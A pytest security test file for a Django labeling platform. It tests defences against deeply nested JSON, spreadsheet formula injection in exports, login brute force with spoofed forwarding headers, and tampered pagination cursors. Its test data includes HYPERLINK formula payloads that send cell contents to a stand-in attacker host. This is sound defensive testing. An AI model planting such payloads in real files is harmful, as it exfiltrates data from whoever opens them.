"""Security defects found by trying LabelForce as its users would: deeply nested JSON, formula
injection in exports, login brute force, and responses under /api/ off the one error shape."""

from __future__ import annotations

import csv
import inspect
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from django.contrib.auth.views import LoginView
from django.urls import URLPattern, URLResolver, get_resolver, include, path
from import_export.formats import base_formats
from rest_framework.authtoken.models import Token
from rest_framework.pagination import CursorPagination
from rest_framework.test import APIClient

from assignments.models import Assignment, Task
from config import parsers
from config.exports import FORMULA_PREFIXES, escape_cell, export_lines, unescape_cell
from qc.models import GoldItem, GoldSet
from tests.assignments.factories import make_project
from tests.factories import make_labeler
from workforce.models import Labeler
from workforce.resources import LabelerResource

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
ERROR_KEYS = {"detail", "code", "fields"}
PASSWORD = "pw-Labelforce-1"
TOKEN_URL = "/api/v1/auth/token/"


def _error(response, status: int, code: str | None = None) -> dict:
    assert response.status_code == status, response.content[:300]
    assert response["Content-Type"].startswith("application/json"), response["Content-Type"]
    body = response.json()
    assert set(body) == ERROR_KEYS
    assert isinstance(body["detail"], str) and body["detail"]
    if code is not None:
        assert body["code"] == code, body
    return body


def _nested(depth: int) -> object:
    """``depth`` levels of arrays around a string, built without recursion."""
    value: object = "x"
    for _ in range(depth):
        value = [value]
    return value


def _nested_text(depth: int) -> str:
    return "[" * depth + '"x"' + "]" * depth


@pytest.fixture
def anonymous():
    return APIClient(raise_request_exception=False)


@pytest.fixture
def ops(client_for, ops_user):
    client = client_for(ops_user)
    client.raise_request_exception = False
    return client


def token_client(labeler) -> APIClient:
    client = APIClient(raise_request_exception=False)
    token, _ = Token.objects.get_or_create(user=labeler.user)
    client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


# -- 1. deeply nested JSON ----------------------------------------------------------------------


def test_deep_json_on_the_token_view_is_a_400_without_login(anonymous):
    body = '{"username": ' + _nested_text(5000) + ', "password": "x"}'
    body = _error(anonymous.post(TOKEN_URL, body, content_type="application/json"), 400)
    assert body["code"] == "parse_error"
    assert str(parsers.JSON_MAX_DEPTH) in body["detail"]


def test_deep_json_answer_on_submit_is_a_400_and_nothing_is_written():
    project = make_project(tasks=1, overlap=1)
    labeler = make_labeler()
    client = token_client(labeler)
    assignment = client.post(f"/api/v1/projects/{project.pk}/next-task/").json()["id"]
    body = '{"answer": ' + _nested_text(1000) + "}"
    response = client.post(
        f"/api/v1/assignments/{assignment}/submit/", body, content_type="application/json"
    )
    _error(response, 400, "parse_error")
    assert Assignment.objects.get(pk=assignment).status == Assignment.Status.LEASED


@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("post", "/api/v1/labelers/"),
        ("patch", "/api/v1/labelers/{pk}/"),
        ("post", "/api/v1/labelers/{pk}/suspend/"),
        ("post", "/api/v1/projects/"),
        ("post", "/api/v1/gold-sets/"),
        ("post", "/api/v1/projects/{project}/pause/"),
    ],
)
def test_deep_json_is_refused_on_any_api_body(ops, vendor_labeler, method, url):
    body = json.dumps({"name": _nested(parsers.JSON_MAX_DEPTH + 1)})
    url = url.format(pk=vendor_labeler.pk, project=make_project(tasks=0).pk)
    response = getattr(ops, method)(url, body, content_type="application/json")
    _error(response, 400, "parse_error")


def test_the_depth_limit_is_exact():
    def parse(value):
        stream = io.BytesIO(json.dumps(value).encode())
        return parsers.JSONParser().parse(stream, "application/json", {})

    at_limit = {"a": _nested(parsers.JSON_MAX_DEPTH - 1)}  # the object is one level
    assert parse(at_limit) == at_limit
    with pytest.raises(parsers.JSONTooDeep):
        parse({"a": _nested(parsers.JSON_MAX_DEPTH)})
    # Wide and shallow is fine, however big.
    assert parsers.json_depth_exceeds([{"a": [1, 2]}] * 10_000) is False


@pytest.mark.parametrize("file_format", ["jsonl", "csv"])
def test_deep_json_inside_an_uploaded_gold_file_is_a_row_error(ops, planted_gold_set, file_format):
    """JSON inside an uploaded file (a JSONL line, a CSV metadata cell) has the same limit:
    a 400 naming the row, never a RecursionError."""
    deep = _nested_text(5000)
    if file_format == "jsonl":
        body = '{"external_id": "d1", "image_url": "a.jpg", "accepted_answers": ' + deep + "}"
    else:
        cell = '"' + ('{"a": ' + deep + "}").replace('"', '""') + '"'
        body = "external_id,image_url,accepted_answers,metadata\nd1,a.jpg,ok," + cell + "\n"
    response = ops.generic(
        "POST",
        f"/api/v1/gold-sets/{planted_gold_set.pk}/import/?format={file_format}",
        body,
        content_type="application/octet-stream",
    )
    _error(response, 400)
    assert not GoldItem.objects.filter(external_id="d1").exists()


def test_every_api_view_parses_json_with_the_limited_parser():
    """A view that sets its own ``parser_classes`` must not bring back DRF's unlimited JSON
    parser (file uploads take raw bytes or multipart and parse nothing as JSON)."""
    from rest_framework.parsers import JSONParser as DrfJSONParser

    offenders = []
    for view_class in _api_view_classes():
        for parser in getattr(view_class, "parser_classes", ()):
            if issubclass(parser, DrfJSONParser) and not issubclass(parser, parsers.JSONParser):
                offenders.append(f"{view_class.__module__}.{view_class.__name__}")
    assert offenders == []


def _api_view_classes() -> list[type]:
    out = []

    def walk(patterns):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns)
            elif isinstance(p, URLPattern) and hasattr(p.callback, "cls"):
                out.append(p.callback.cls)

    walk(get_resolver().url_patterns)
    return out


# -- 2. formula injection in exports ------------------------------------------------------------

DANGEROUS = [prefix + 'HYPERLINK("https://evil.example/?"&A1,"open")' for prefix in "=+-@"] + [
    "\t=1+1",
    "\r=2+2",
]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_all_escaped(cells, planted):
    """Every planted value is in the file, escaped; no cell starts as a formula would."""
    for value in planted:
        assert escape_cell(value) in cells, (value, cells)
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(FORMULA_PREFIXES), cell


def test_escape_cell_and_its_inverse():
    for value in DANGEROUS:
        assert escape_cell(value) == "'" + value
        assert unescape_cell(escape_cell(value)) == value
    for value in ("plain", "", "'quoted", "a=b", 3, -3, 1.5, None, True):
        assert escape_cell(value) == value
        assert unescape_cell(value) == value


@pytest.fixture
def planted_labelers(client_for, manager_a, vendor_a):
    """Labelers of vendor A whose text fields start with every dangerous prefix; the names go
    in through the vendor manager's PATCH, as an attacker would plant them."""
    client = client_for(manager_a)
    labelers = []
    for i, value in enumerate(DANGEROUS):
        labeler = make_labeler(vendor=vendor_a, username=f"plant{i}", external_id=f"P-{i}")
        response = client.patch(
            f"/api/v1/labelers/{labeler.pk}/",
            {"first_name": value.strip(), "last_name": value.strip()},
            format="json",
        )
        assert response.status_code == 200, response.content
        labelers.append(labeler)
    # The API trims whitespace; tab- and CR-leading values arrive through other routes
    # (the admin, an import), so they are written directly.
    for labeler, value in zip(labelers, DANGEROUS, strict=True):
        labeler.external_id = value
        labeler.save(update_fields=["external_id"])
    return labelers


def _labeler_export(file_format) -> object:
    """What the admin's export action does: the resource's dataset through the format."""
    queryset = Labeler.objects.filter(user__username__startswith="plant")
    dataset = LabelerResource().export(queryset)
    return file_format.export_data(dataset)


def test_admin_labeler_csv_export_escapes_formulae(planted_labelers):
    text = _labeler_export(base_formats.CSV())
    planted = {v.strip() for v in DANGEROUS} | set(DANGEROUS)
    _assert_all_escaped(_csv_cells(text), planted)


def test_admin_labeler_xlsx_export_writes_no_formula(planted_labelers):
    data = _labeler_export(base_formats.XLSX())
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XML turns a stored CR into LF when it is read back.
    values = [c.value.replace("\n", "\r") if isinstance(c.value, str) else c.value for c in cells]
    _assert_all_escaped(values, {v.strip() for v in DANGEROUS} | set(DANGEROUS))


def test_labeler_export_reimports_unchanged(planted_labelers, ops_user):
    """The escape is read back on import: an exported file imported again changes nothing.
    (Tab- and CR-leading values are left out: the services trim whitespace on any import.)"""
    for i, labeler in enumerate(planted_labelers[4:]):
        Labeler.objects.filter(pk=labeler.pk).update(external_id=f"plain{i}")
    before = {
        lab.user.username: (lab.user.first_name, lab.user.last_name, lab.external_id)
        for lab in Labeler.objects.select_related("user").filter(user__username__startswith="plant")
    }
    text = _labeler_export(base_formats.CSV())
    dataset = base_formats.CSV().create_dataset(text)
    result = LabelerResource().import_data(dataset, dry_run=False, user=ops_user)
    assert not result.has_errors() and not result.has_validation_errors()
    after = {
        lab.user.username: (lab.user.first_name, lab.user.last_name, lab.external_id)
        for lab in Labeler.objects.select_related("user").filter(user__username__startswith="plant")
    }
    assert after == before


@pytest.fixture
def planted_gold_set(db):
    gold_set = GoldSet.objects.create(
        slug="evil-gold", name="Gold", answer_type="single_choice", classes=["ok", "crack"]
    )
    for i, value in enumerate(DANGEROUS):
        GoldItem.objects.create(
            gold_set=gold_set,
            external_id=f"g{i}",
            payload={"image_url": value, "metadata": {"note": value}},
            accepted_answers=["ok"],
            explanation=value,  # a senior's review note ends up here
        )
    return gold_set


def _streamed(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_gold_set_csv_export_over_the_api_escapes_formulae(ops, planted_gold_set):
    response = ops.get(f"/api/v1/gold-sets/{planted_gold_set.pk}/export/", {"format": "csv"})
    _assert_all_escaped(_csv_cells(_streamed(response)), set(DANGEROUS))


def test_gold_set_csv_export_in_the_admin_escapes_formulae(client, ops_user, planted_gold_set):
    client.force_login(ops_user)
    response = client.get(f"/admin/qc/goldset/{planted_gold_set.pk}/export/?format=csv")
    _assert_all_escaped(_csv_cells(_streamed(response)), set(DANGEROUS))


def test_gold_set_export_reimports_unchanged(ops, planted_gold_set):
    from qc import services

    text = _streamed(ops.get(f"/api/v1/gold-sets/{planted_gold_set.pk}/export/", {"format": "csv"}))
    records = [rec for _, rec in services.gold.GOLD_FILE.records(text, "csv")]
    assert sorted(r["explanation"] for r in records) == sorted(DANGEROUS)


def test_project_labels_csv_export_escapes_formulae(ops):
    project = make_project(tasks=0, overlap=1)
    for value in DANGEROUS:
        Task.objects.create(
            project=project,
            external_id=value,
            payload={"image_url": value},
            target=1,
            submitted=1,
            is_open=False,
            state=Task.State.COMPLETE,
            final_answer=value,
            decided_by=Task.DecidedBy.CONSENSUS,
            decided_at=project.created_at,
            agreement=1.0,
        )
    response = ops.get(f"/api/v1/projects/{project.pk}/export/", {"format": "csv"})
    cells = _csv_cells(_streamed(response))
    for value in DANGEROUS:  # external id and image url are plain text cells
        assert cells.count(escape_cell(value)) >= 2, value
    _assert_all_escaped(cells, set())


EXPORT_WRITERS = {
    # module: how it is covered above
    "workforce/resources.py": "test_admin_labeler_csv_export_escapes_formulae",
    "config/exports.py": "export_lines, through the exports that call it (EXPORT_LINES_CALLERS)",
    "payments/exports.py": "tests/payments/test_exports.py (invoice cells, payroll names)",
}
# Modules whose files config.exports.export_lines writes: how each is covered above.
EXPORT_LINES_CALLERS = {
    "qc/services/gold.py": "test_gold_set_csv_export_over_the_api_escapes_formulae",
    "assignments/selectors/review.py": "test_project_labels_csv_export_escapes_formulae",
}


def _app_modules():
    for app in ("config", "workforce", "qc", "assignments", "payments", "labeler_pages", "demo"):
        for file in (ROOT / app).rglob("*.py"):
            if "migrations" not in file.parts:
                yield str(file.relative_to(ROOT)), file.read_text()


def test_every_spreadsheet_export_is_covered_and_escapes():
    """Every module that writes CSV or XLSX (csv.writer, a django-import-export resource,
    openpyxl) is one whose export is tested above, and it escapes through config.exports; so is
    every module that has ``export_lines`` write its file. A new export fails here until it
    escapes and has its test."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|resources\.ModelResource|openpyxl\.Workbook")
    modules = dict(_app_modules())
    writers = {name for name, text in modules.items() if pattern.search(text)}
    assert writers == set(EXPORT_WRITERS)
    for module in writers - {"config/exports.py"}:
        assert "from config.exports import escape_row" in modules[module], module
    assert "escape_row(" in inspect.getsource(export_lines)
    callers = {name for name, text in modules.items() if "export_lines(" in text}
    assert callers - {"config/exports.py"} == set(EXPORT_LINES_CALLERS)


# -- 3. login throttling ------------------------------------------------------------------------


def _token(client, username, password):
    return client.post(TOKEN_URL, {"username": username, "password": password}, format="json")


def test_token_view_locks_out_after_the_failure_limit(anonymous, vendor_labeler, settings):
    limit = settings.AXES_FAILURE_LIMIT
    for _ in range(limit - 1):
        _error(_token(anonymous, "acme1", "wrong"), 400, "invalid")
    # The limit-th failure and everything after it, the right password included, is a 429.
    for password in ("wrong", PASSWORD):
        response = _token(anonymous, "acme1", password)
        body = _error(response, 429, "login_locked_out")
        assert "Too many failed login attempts" in body["detail"]
        assert int(response["Retry-After"]) == settings.AXES_COOLOFF_TIME.total_seconds()
    assert not Token.objects.exists()


def test_twenty_five_wrong_passwords_then_the_right_one_is_refused(anonymous, vendor_labeler):
    for _ in range(25):
        _token(anonymous, "acme1", "wrong")
    _error(_token(anonymous, "acme1", PASSWORD), 429, "login_locked_out")


def test_limits_come_from_settings(anonymous, vendor_labeler, settings):
    settings.AXES_FAILURE_LIMIT = 2
    _error(_token(anonymous, "acme1", "wrong"), 400)
    _error(_token(anonymous, "acme1", "wrong"), 429, "login_locked_out")


def test_lockout_is_per_username_and_address(vendor_labeler, settings):
    """Another client address, or another account from the same address, is not locked out
    by someone else's failures (no locking a whole office out through one address)."""
    make_labeler(username="other1")
    attacker = APIClient(REMOTE_ADDR="10.0.0.66")
    for _ in range(settings.AXES_FAILURE_LIMIT):
        _token(attacker, "acme1", "wrong")
    assert _token(attacker, "acme1", PASSWORD).status_code == 429
    assert _token(attacker, "other1", PASSWORD).status_code == 200
    assert _token(APIClient(REMOTE_ADDR="10.0.0.7"), "acme1", PASSWORD).status_code == 200


def test_a_successful_login_clears_the_failures(anonymous, vendor_labeler, settings):
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        _token(anonymous, "acme1", "wrong")
    assert _token(anonymous, "acme1", PASSWORD).status_code == 200
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert _token(anonymous, "acme1", "wrong").status_code == 400


def test_forwarded_for_is_ignored_unless_proxies_are_trusted(vendor_labeler, settings):
    """By default a client cannot pick the address it is counted under: rotating
    X-Forwarded-For does not get around the lockout."""
    for i in range(settings.AXES_FAILURE_LIMIT):
        client = APIClient(HTTP_X_FORWARDED_FOR=f"198.51.100.{i}")
        _token(client, "acme1", "wrong")
    locked = APIClient(HTTP_X_FORWARDED_FOR="198.51.100.200")
    assert _token(locked, "acme1", PASSWORD).status_code == 429


def test_behind_a_trusted_proxy_the_forwarded_client_is_counted(vendor_labeler, settings):
    """Behind one trusted proxy (REMOTE_ADDR is the proxy), clients are told apart by the
    address the proxy appended; what the client wrote further left is not believed."""
    settings.TRUSTED_PROXY_COUNT = 1
    proxy = "10.1.1.1"

    def via_proxy(client_ip, spoofed=""):
        header = f"{spoofed}, {client_ip}" if spoofed else client_ip
        return APIClient(REMOTE_ADDR=proxy, HTTP_X_FORWARDED_FOR=header)

    for i in range(settings.AXES_FAILURE_LIMIT):
        _token(via_proxy("203.0.113.5", spoofed=f"192.0.2.{i}"), "acme1", "wrong")
    # The same client, whatever it writes to the left of what the proxy appended.
    assert (
        _token(via_proxy("203.0.113.5", spoofed="192.0.2.99"), "acme1", PASSWORD).status_code == 429
    )
    assert _token(via_proxy("203.0.113.5"), "acme1", PASSWORD).status_code == 429
    # Another client behind the same proxy is not locked out.
    assert _token(via_proxy("203.0.113.6"), "acme1", PASSWORD).status_code == 200


def _admin_login(client, username, password):
    return client.post("/admin/login/?next=/admin/", {"username": username, "password": password})


def test_admin_login_locks_out_with_a_plain_page(client, ops_user, settings):
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        response = _admin_login(client, "ops", "wrong")
        assert response.status_code == 200  # the form again, with its error
    for password in ("wrong", PASSWORD):
        response = _admin_login(client, "ops", password)
        assert response.status_code == 429
        assert response["Content-Type"].startswith("text/html")
        assert b"Too many failed login attempts" in response.content
        assert int(response["Retry-After"]) == settings.AXES_COOLOFF_TIME.total_seconds()
    assert "_auth_user_id" not in client.session


def test_admin_login_works_below_the_limit(client, ops_user, settings):
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        _admin_login(client, "ops", "wrong")
    response = _admin_login(client, "ops", PASSWORD)
    assert response.status_code == 302
    assert client.session["_auth_user_id"] == str(ops_user.pk)


urlpatterns = [
    path("labeler/login/", LoginView.as_view(template_name="admin/login.html")),
    path("", include("config.urls")),
]


@pytest.mark.urls(__name__)
def test_any_django_login_view_inherits_the_lockout(client, vendor_labeler, settings):
    """The labeler web pages will log in through Django's LoginView: the same counting and
    the same lockout page apply without any code of their own."""
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post("/labeler/login/", {"username": "acme1", "password": "wrong"})
    response = client.post("/labeler/login/", {"username": "acme1", "password": PASSWORD})
    assert response.status_code == 429
    assert b"Too many failed login attempts" in response.content


def test_throttling_can_be_switched_off(anonymous, vendor_labeler, settings):
    settings.AXES_ENABLED = False
    for _ in range(settings.AXES_FAILURE_LIMIT + 2):
        _token(anonymous, "acme1", "wrong")
    assert _token(anonymous, "acme1", PASSWORD).status_code == 200


# -- 4. every response under /api/ in the one error shape ---------------------------------------

NON_INT_PATHS = [
    ("post", "/api/v1/projects/abc/next-task/"),
    ("get", "/api/v1/projects/abc/"),
    ("get", "/api/v1/projects/1.5/"),
    ("post", "/api/v1/assignments/abc/submit/"),
    ("post", "/api/v1/labelers/abc/suspend/"),
    ("get", "/api/v1/labelers/abc/history/"),
    ("get", "/api/v1/gold-sets/abc/items/"),
    ("get", "/api/v1/gold-sets/abc/export/"),
    ("post", "/api/v1/reviews/abc/resolve/"),
    ("get", "/api/v1/projects/%20/"),
    ("get", "/api/v1/labelers"),
    ("get", "/api/nope"),
]


@pytest.mark.parametrize("debug", [False, True], ids=["production", "debug"])
@pytest.mark.parametrize(("method", "url"), NON_INT_PATHS)
def test_unmatched_api_paths_are_json_404_in_production_and_debug(
    ops, anonymous, settings, debug, method, url
):
    settings.DEBUG = debug
    for client in (ops, anonymous):
        _error(getattr(client, method)(url), 404, "not_found")


def test_a_missing_trailing_slash_is_named(ops):
    body = _error(ops.get("/api/v1/labelers"), 404, "not_found")
    assert "/api/v1/labelers/" in body["detail"]


def _cursor_list_urls() -> list[str]:
    """Every GET route under /api/ without path parameters whose view paginates by cursor."""
    urls = []

    def walk(patterns, prefix):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern) and hasattr(p.callback, "cls"):
                route = prefix + str(p.pattern)
                cls = p.callback.cls
                paginator = getattr(cls, "pagination_class", None)
                if (
                    route.startswith("api/")
                    and "<" not in route
                    and hasattr(cls, "get")
                    and paginator is not None
                    and issubclass(paginator, CursorPagination)
                ):
                    urls.append("/" + route)

    walk(get_resolver().url_patterns, "")
    return sorted(set(urls))


CURSOR_LISTS = _cursor_list_urls()
TAMPERED = [
    "not-a-cursor",
    "%%%",
    "bz0wJnI9MCZwPWFiYw==",
    "cD0xLjU=",
    "cD05OTk5OTk5OTk5OTk5OTk5OTk5OTk5OQ==",
]


def test_the_cursor_lists_were_found():
    assert "/api/v1/labelers/" in CURSOR_LISTS
    assert len(CURSOR_LISTS) >= 5, CURSOR_LISTS


@pytest.mark.parametrize("url", CURSOR_LISTS)
def test_tampered_cursor_is_a_400_invalid_on_every_cursor_list(ops, vendor_labeler, url):
    # Each list as a caller who may read it: ops, or a labeler for the labeler's own lists.
    client = ops if ops.get(url).status_code == 200 else token_client(vendor_labeler)
    assert client.get(url).status_code == 200, url
    for cursor in TAMPERED:
        response = client.get(url, {"cursor": cursor})
        body = _error(response, 400, "invalid")
        assert "cursor" in body["fields"], (url, cursor, body)


def test_tampered_cursor_on_a_nested_list(ops, planted_gold_set):
    response = ops.get(f"/api/v1/gold-sets/{planted_gold_set.pk}/items/", {"cursor": "junk"})
    assert "cursor" in _error(response, 400, "invalid")["fields"]
